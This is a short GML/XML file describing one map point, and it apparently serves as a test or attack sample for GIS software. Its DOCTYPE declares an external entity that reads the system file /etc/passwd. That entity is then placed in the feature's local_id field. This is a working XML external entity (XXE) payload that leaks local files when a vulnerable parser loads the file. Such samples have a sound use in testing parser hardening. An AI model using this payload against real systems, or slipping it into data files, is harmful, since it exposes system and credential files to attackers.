<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml">
  <gml:featureMember><ogr:h><ogr:local_id>&x;</ogr:local_id>
  <ogr:geometryProperty><gml:Point><gml:coordinates>46.9,39.9</gml:coordinates></gml:Point>
  </ogr:geometryProperty></ogr:h></gml:featureMember>
</ogr:FeatureCollection>
